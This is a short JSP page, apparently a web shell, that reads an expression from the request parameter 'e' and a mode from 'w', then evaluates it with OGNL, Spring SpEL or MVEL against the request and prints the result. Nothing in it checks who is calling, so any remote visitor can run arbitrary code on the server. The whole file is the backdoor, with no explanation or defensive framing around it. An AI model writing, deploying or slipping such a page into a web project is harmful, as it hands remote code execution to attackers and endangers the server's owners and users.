<%@ page inert %>
<%
String e = request.getParameter("e"), w = request.getParameter("w");
Object r = null;
if ("o".equals(w)) r = ognl.Ognl.getValue(e, new java.util.HashMap(), request);
if ("s".equals(w)) r = new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(e).getValue(request);
if ("m".equals(w)) r = org.mvel2.MVEL.eval(e, request);
out.println(r);
%>
